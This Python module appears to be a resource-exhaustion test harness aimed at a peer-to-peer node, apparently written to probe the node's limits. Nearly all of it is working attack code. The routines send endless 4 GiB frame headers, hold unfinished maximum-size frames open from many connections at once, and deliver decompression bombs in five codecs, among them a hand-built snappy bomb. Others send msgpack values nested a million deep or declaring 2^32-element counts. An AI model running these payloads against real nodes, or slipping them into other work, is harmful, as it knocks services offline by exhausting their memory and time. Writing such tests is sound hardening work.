# SPDX-License-Identifier: GPL-3.0-or-later
"""Frames that cost their reader memory or time."""
import bz2
import gzip
import hashlib
import lzma
import random
import struct
import sys
import time
import zlib

from attack_client import BZ2, GZIP, LZMA, MIB, SNAPPY, Swarm, ZLIB, frame, headed, is_over, pack, tell, wait_go, wrap

ALL_METHODS = [SNAPPY, ZLIB, GZIP, BZ2, LZMA]
FRAME = 4 * MIB               # the victim's limit
REFERENCE = 'a million bytes, nothing odd'


def endless_header(options):
    """4 GiB are announced, and zeros sent as fast as they are taken: by strangers, and by nodes that shook hands."""
    swarm = Swarm(options)
    header = b'\xff\xff\xff\xff'
    inside = swarm.enter_many(options['n'])
    lonely = swarm.enter('alone', 200)
    begun = time.monotonic()
    lonely.write(header)
    swarm.run(60, lambda: lonely.closed)
    alone = time.monotonic() - begun
    wait_go()
    clients = inside + [swarm.add(100 + i // 4) for i in range(options['n'])]
    for client in clients:
        client.connected_at_go = time.monotonic()
        client.write(header + bytes(65536))
        client.endless = bytes(MIB)
    begun = time.monotonic()
    before = sum(c.sent for c in clients)
    swarm.run(30, lambda: all(c.closed for c in clients))
    now = time.monotonic()
    return {'alone': alone, 'inside': len(inside), 'links': len(clients), 'open': sum(1 for c in clients if not c.closed),
            'longest': max((c.closed or now) - max(begun, c.connected or begun) for c in clients),
            'sent': sum(c.sent for c in clients) - before}


def unfinished(options):
    """The longest frames that are allowed, all but their last byte, by many at once."""
    swarm = Swarm(options)
    inside = swarm.enter_many(options['n'])
    wait_go()
    for client in inside:
        client.write(struct.pack('>I', FRAME) + bytes(FRAME - 1))
    swarm.run(60, lambda: all(c.closed or not c.out for c in inside))
    tell('sent', True)
    result = {'inside': len(inside), 'sent': sum(c.sent for c in inside), 'open': sum(1 for c in inside if c.is_open)}
    swarm.run(3600, is_over)
    return result


def zeros(n):
    """A message whose packet is n zeros, with its checksum."""
    body = pack([0, 'attacker', int(time.time()), 0, bytes(n)])
    return hashlib.sha256(body).digest() + body


def snappy_bomb(n):
    """n announced, one literal, and copies of 64 bytes."""
    head = b''
    value = n
    while value >= 0x80:
        head += bytes([value & 0x7f | 0x80])
        value >>= 7
    return head + bytes([value]) + b'\x00\x00' + b'\xfe\x01\x00' * (n // 64)


def bombs(options):
    """Bodies that unpack to far more than the cap, in every codec; streams that lie about what follows; a body that no codec
    knows, and is as long as may be."""
    size = 48 * MIB
    data = zeros(size)
    noise = random.Random(1).randbytes(FRAME - 16)
    kinds = {
        'zlib': zlib.compress(data, 9),
        'gzip': gzip.compress(data, 9, mtime=0),
        'bz2': bz2.compress(data, 9),
        'lzma': lzma.compress(data, preset=1),
        'lzma, dictionary of 1 GiB': lzma.compress(bytes(4096), filters=[{'id': lzma.FILTER_LZMA2, 'dict_size': 1 << 30, 'preset': 1, 'mode': lzma.MODE_FAST, 'mf': lzma.MF_HC3, 'depth': 1, 'nice_len': 3}]) if options.get('big') else b'',
        'snappy': snappy_bomb(size),
        'snappy, 4 GiB announced': b'\xff\xff\xff\xff\x0f' + bytes(64),
        'gzip, 500 members': gzip.compress(bytes(MIB), 9, mtime=0) * 500,
        'noise': noise,
        'zlib, then noise': zlib.compress(zeros(3 * MIB), 9) + noise[:MIB],
    }
    kinds = {name: body for name, body in kinds.items() if body}
    swarm = Swarm(options)
    wait_go()
    tell('kinds', list(kinds))
    n = 0
    for name, body in kinds.items():
        body = body[:FRAME]
        if sys.stdin.readline() != 'next\n':
            break
        # twice each: the victim closes for some, and drops the others
        for _ in range(options['times']):
            client = swarm.enter('bomber%d' % n, n // 4, methods=ALL_METHODS, keep=False)
            n += 1
            before = client.n_in
            client.write(headed(body))
            client.write(frame(2, client.id, [8, b'*']))
            # closed for it, or the next frame is answered
            swarm.run(60, lambda: client.closed or (not client.out and client.n_in > before + 100))
            client.end()
        tell('done', {'bytes': len(body)})
    return {}


def deep(options):
    """Values nested a million deep, and counts of 2^32."""
    swarm = Swarm(options)
    client = swarm.enter('deep', keep=False)

    def message(rest, count=5):
        body = bytes([0x90 | count]) + pack(0) + pack(client.id) + pack(int(time.time())) + pack(0) + rest
        return wrap(body)
    kinds = {
        # to compare with: read, hashed, and dropped for its sub-flag
        REFERENCE: frame(0, client.id, [1, bytes(10 ** 6)]),
        'depth 10^6': message(b'\x91' * 10 ** 6 + b'\xc0'),
        'depth 10^6 of maps': message(b'\x81\xa1a' * (10 ** 6 // 3) + b'\xc0'),
        'array of 2^32': message(b'\xdd\xff\xff\xff\xff'),
        'map of 2^32': message(b'\xdf\xff\xff\xff\xff'),
        'bin of 2^32': message(b'\xc6\xff\xff\xff\xff'),
        'str of 2^32': message(b'\xdb\xff\xff\xff\xff'),
        'ext of 2^32': message(b'\xc9\xff\xff\xff\xff\x01'),
        'header of 2^32': wrap(b'\xdd\xff\xff\xff\xff' + pack(0) + pack(client.id) + pack(int(time.time())) + pack(0)),
        'a million elements': message(b'\xdd' + struct.pack('>I', 10 ** 6) + b'\x01' * 10 ** 6),
        'arrays of arrays of 2^16': message(b'\xdc\xff\xff' * 1000 + b'\xc0'),
    }
    wait_go()
    tell('kinds', {name: len(data) for name, data in kinds.items()})
    n = 0
    for name, data in kinds.items():
        if sys.stdin.readline() != 'next\n':
            break
        for _ in range(options['times']):
            if not client.is_open:
                n += 1
                client = swarm.enter('deep%d' % n, n // 4, keep=False)
            before = client.n_in
            client.write(data)
            client.write(frame(2, client.id, [8, b'*']))
            swarm.run(60, lambda: client.closed or (not client.out and client.n_in > before))
        tell('done', True)
    return {'links': n + 1}
